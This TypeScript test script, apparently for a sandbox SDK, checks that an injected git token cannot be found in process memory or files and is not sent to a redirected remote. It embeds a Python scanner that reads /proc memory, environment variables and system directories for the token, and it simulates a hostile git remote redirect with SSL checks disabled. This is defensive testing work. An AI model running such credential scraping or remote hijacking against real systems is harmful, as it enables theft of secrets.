// Looks for the credential of a repository wherever a hostile program inside could, and lets it be stolen by a false remote.
import { Client, GitError, secret } from '@svc/sdk';

const { GIT_URL: url, GIT_TOKEN: token } = process.env;
/** Counts the processes whose memory or variables hold /tmp/a and /tmp/b in one, and the files that do. */
const search = `
import os
what = open('/tmp/a', 'rb').read() + open('/tmp/b', 'rb').read()
mine = str(os.getpid())
processes = 0
for pid in filter(str.isdigit, os.listdir('/proc')):
    if pid == mine: continue
    found = False
    try:
        for name in ('environ', 'cmdline'):
            found = found or what in open('/proc/%s/%s' % (pid, name), 'rb').read()
        memory = open('/proc/%s/mem' % pid, 'rb', 0)
        for line in open('/proc/%s/maps' % pid):
            start, end = (int(text, 16) for text in line.split()[0].split('-'))
            if found or 'r' not in line.split()[1] or '[v' in line: continue
            memory.seek(start)
            try: found = what in memory.read(end - start)
            except (OSError, OverflowError, ValueError): pass
    except OSError: continue
    processes += found
files = 0
for top in ('/etc', '/home', '/root', '/tmp', '/var', '/run', '/dev/shm'):
    for place, _, names in os.walk(top):
        for name in names:
            file = os.path.join(place, name)
            try: files += os.path.isfile(file) and what in open(file, 'rb').read()
            except OSError: pass
print(processes, files)
`;

const client = new Client();
await client.secrets.create({ name: 'git-token', value: token });
await client.secrets.create({ name: 'wrong', value: 'not-the-token' });
const credential = secret('git-token');
const host = new URL(url).hostname;
const wild = { transform: { headers: { 'X-Of-The-User': 'kept' } } };
const network = {
  denyOut: ['0.0.0.0/0'],
  allowOut: [host, 'other.test'],
  rules: { [`*.${host.split('.').slice(1).join('.')}`]: [wild], 'one.test': [wild] },
};
const reasonOf = (work) =>
  work.then(
    () => 'none',
    (error) => (GitError.is(error) ? error.reason : String(error)),
  );

const sandbox = await client.sandboxes.create({ network, timeoutMs: 600_000 });
try {
  const { git } = sandbox;
  console.log('without a credential:', await reasonOf(git.clone(url, { path: 'none' })));
  await sandbox.commands.start('marker=marker-in-the-memory; while :; do sleep 1; done');
  await Promise.all([git.authorize(url, credential), git.authorize('https://other.example', credential)]);
  const after = (await sandbox.info()).network;
  console.log('kept:', JSON.stringify([after.denyOut, after.allowOut, after.rules['one.test']]));
  console.log('added:', JSON.stringify(after.rules[host]));
  console.log('both:', JSON.stringify(Object.keys(after.rules).sort()));

  const trace = '/tmp/trace';
  const cloned = await sandbox.commands.run(`git clone -q ${url} traced 2>&1`, {
    envs: { GIT_TRACE_CURL: trace, GIT_TRACE: '1', GIT_TRACE_REDACT: '0' },
  });
  console.log('plain git:', cloned.exitCode);
  const { path } = await git.clone(url, { path: 'work', credential });
  console.log('another for the host:', await reasonOf(git.authorize(url, secret('wrong'))));

  // Half of each pattern comes by a file of its own, so that the search finds nothing of itself.
  const encoded = Buffer.from(`x-access-token:${token}`).toString('base64');
  for (const [what, text] of [
    ['marker', 'marker-in-the-memory'],
    ['token', token],
    ['encoded', encoded],
  ]) {
    await sandbox.files.write('/tmp/a', text.slice(0, 7));
    await sandbox.files.write('/tmp/b', text.slice(7));
    await sandbox.files.write('/tmp/search.py', search);
    const { stdout } = await sandbox.commands.run('python3 /tmp/search.py; rm /tmp/a /tmp/b', {
      user: 'root',
    });
    console.log(`${what} in memory and files: ${stdout.trim()}`);
  }
  const config = await sandbox.commands.run('cat .git/config; git remote -v', { cwd: path });
  console.log('placeholder inside:', config.stdout.includes('svc.secrets') || config.stdout.includes('@'));

  // A hostile program turns the remote to a host of its own. The credential goes to the host that it was given for.
  await sandbox.commands.run(
    'git config http.sslVerify false; git remote set-url origin https://other.test/git/app.git',
    { cwd: path },
  );
  console.log('a false remote:', (await reasonOf(git.push({ cwd: path }))) !== 'none');
  await client.secrets.delete('git-token');
  console.log('after the secret is gone:', await reasonOf(git.clone(url, { path: 'gone' })));
} finally {
  await sandbox.kill();
}
